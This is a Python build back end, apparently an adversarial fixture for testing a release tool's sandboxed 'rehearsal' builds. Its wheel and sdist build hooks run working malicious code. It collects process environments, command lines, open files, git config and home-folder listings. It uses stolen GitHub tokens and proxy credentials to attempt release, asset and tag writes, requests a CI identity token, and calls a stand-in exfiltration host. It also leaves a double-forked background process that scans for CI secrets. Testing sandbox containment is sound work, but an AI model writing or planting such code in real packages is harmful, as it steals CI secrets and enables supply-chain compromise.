"""A build back end that steals: it packs what it finds into the packages, and leaves a process that waits for more.

It looks where any code of the same user can look without leaving the rehearsal: the processes that the tool started
(their first one is told in ``lair/root``), the folders above its own, and the rehearsal's temporary folder.
"""

import base64
import http.client
import json
import os
import ssl
import sys
import time
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import backend  # type: ignore[import-not-found] # the widget's own, beside this file in the project

prepare_metadata_for_build_wheel = backend.prepare_metadata_for_build_wheel

LAIR = Path(json.loads(Path("lair.json").read_text()))
ROOT = int((LAIR / "root").read_text())
PATIENT = """
import glob, os, pathlib, sys, time
lair, root, top = pathlib.Path(sys.argv[1]), pathlib.Path("/proc", sys.argv[2]), sys.argv[3].encode()
lair.joinpath(f"waiting-{os.getpid()}").touch()
while root.joinpath("fd").exists():
    for name in glob.glob("/proc/[0-9]*/environ"):
        try:
            text = pathlib.Path(name).read_bytes()
        except OSError:
            continue
        if b"TAGSEAL_TRUST_CONFIG=" + top in text and b"ACTIONS_ID_TOKEN_REQUEST_TOKEN=" in text:
            lair.joinpath("caught").write_bytes(text)
    time.sleep(0.05)
lair.joinpath("survived").touch()
"""


def build_sdist(folder: str, config_settings: object = None) -> object:
    """Steal, then build."""
    Path("loot.json").write_text(json.dumps(steal()))
    hide()
    return backend.build_sdist(folder, config_settings)


def build_wheel(folder: str, config_settings: object = None, metadata_directory: object = None) -> object:
    """Steal, then build."""
    Path("widget.py").write_text(json.dumps(steal()))
    hide()
    return backend.build_wheel(folder, config_settings, metadata_directory)


def steal() -> dict[str, object]:
    """Return everything that was found."""
    tree = processes()
    environs = {pid: read(f"/proc/{pid}/environ") for pid in tree}
    job = next((environ for environ in environs.values() if "\0TAGSEAL_TRUST_CONFIG=" in environ), "")
    return {
        "own": dict(os.environ),
        "home": sorted(map(str, Path.home().rglob("*"))),
        "environs": environs,
        "commands": {pid: read(f"/proc/{pid}/cmdline") for pid in tree},
        "open files": {pid: open_files(pid) for pid in tree},
        "git": {str(place): git(place) for place in (Path.cwd(), *Path.cwd().parents)},
        "rehearsal": rehearsal(),
        "mode": top().stat().st_mode,
        "tried": tried(dict(pair.partition("=")[::2] for pair in job.split("\0") if pair)),
    }


def processes() -> list[int]:
    """Return the tool's processes: its first, and all that descend from it."""
    parents = {}
    for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):  # noqa: PTH208 - processes end while we look
        with suppress(OSError, IndexError):
            parents[pid] = int(Path(f"/proc/{pid}/stat").read_text(errors="replace").rpartition(")")[2].split()[1])
    tree = {ROOT}
    while more := {pid for pid, parent in parents.items() if parent in tree} - tree:
        tree |= more
    return sorted(tree)


def read(path: str | Path, limit: int = 1 << 20) -> str:
    """Return a file's text; nothing that could keep us waiting is opened."""
    with suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        with os.fdopen(descriptor, "rb") as file:
            return (file.read(limit) or b"").decode("latin-1")
    return ""


def open_files(pid: int) -> dict[str, list[str]]:
    """Return what a process has open, and what stands in it."""
    found = {}
    for link in Path(f"/proc/{pid}/fd").iterdir():
        with suppress(OSError):
            found[str(link)] = [str(link.readlink()), read(link, 1 << 16) if link.is_file() else ""]
    return found


def git(place: Path) -> dict[str, str]:
    """Return what git keeps as text in this folder."""
    files = ("config", "HEAD", "FETCH_HEAD", "logs/HEAD", "packed-refs")
    return {name: read(place / ".git" / name) for name in files if (place / ".git" / name).is_file()}


def rehearsal() -> dict[str, str]:
    """Return the text of every file in the rehearsal's temporary folder."""
    files = (path for path in top().rglob("*") if path.is_file() and "objects" not in path.parts)
    return {str(path): read(path, 1 << 16) for path in files}


def top() -> Path:
    """Return the rehearsal's temporary folder."""
    return next(place for place in Path.cwd().parents if place.name.startswith("tagseal-rehearsal-"))


def tried(job: dict[str, str]) -> dict[str, object]:
    """Try to write with what the job's environment holds, and return the answers."""
    if not job:
        return {}
    proxy = urlsplit(job["HTTPS_PROXY"])
    password = "Basic " + base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    context = ssl.create_default_context(cafile=job["SSL_CERT_FILE"])
    repository, token = job["GITHUB_REPOSITORY"], job["GITHUB_TOKEN"]

    def ask(method: str, url: str, token: str = token, *, body: str | None = None, let_in: str = password) -> int | str:
        parts = urlsplit(url)
        connection = http.client.HTTPSConnection("127.0.0.1", proxy.port, context=context, timeout=20)
        connection.set_tunnel(parts.netloc, 443, {"Proxy-Authorization": let_in} if let_in else {})
        try:
            connection.request(method, parts.path, body, {"Authorization": f"Bearer {token}"} if token else {})
            return connection.getresponse().status
        except OSError as error:
            return str(error)
        finally:
            connection.close()

    api = f"https://api.github.com/repos/{repository}"
    release = json.dumps({"tag_name": job["GITHUB_REF_NAME"], "draft": True})
    upload = f"https://uploads.github.com/repos/{repository}/releases/1/assets"
    return {
        "read": ask("GET", api),
        "write": {
            "a release": ask("POST", f"{api}/releases", body=release),
            "an asset": ask("POST", upload, body="worm"),
            "a release, changed": ask("PATCH", f"{api}/releases/1", body=release),
            "a tag": ask("POST", f"{api}/git/refs", body='{"ref": "refs/tags/v6.6.6"}'),
            "a foreign token": ask("POST", f"{api}/releases", "ghp_foreign", body=release),
            "no token": ask("POST", f"{api}/releases", "", body=release),
        },
        "no password": ask("GET", api, let_in=""),
        "unplayed": ask("GET", "https://unplayed.example/exfiltrate"),
        "identity": {port: identity(port, token) for port in ports()},
    }


def ports() -> list[int]:
    """Return the ports that the tool's first process listens on."""
    sockets = {str(link.readlink()) for link in Path(f"/proc/{ROOT}/fd").iterdir() if link.is_symlink()}
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]


def identity(port: int, token: str) -> int | None:
    """Ask the runner's endpoint for an identity token, with the wrong token for it."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    with suppress(OSError):
        url = "/oidc/token?api-version=2.0&audience=sigstore"
        connection.request("GET", url, headers={"Authorization": f"Bearer {token}"})
        return connection.getresponse().status
    return None


def hide() -> None:
    """Leave a process: forked twice, with a session, an environment and a group of its own."""
    before = len(list(LAIR.glob("waiting-*")))
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            os.execve(sys.executable, [sys.executable, "-c", PATIENT, str(LAIR), str(ROOT), str(top())], {})  # noqa: S606 - no shell, but a thief
        os._exit(0)
    while len(list(LAIR.glob("waiting-*"))) == before:
        time.sleep(0.01)
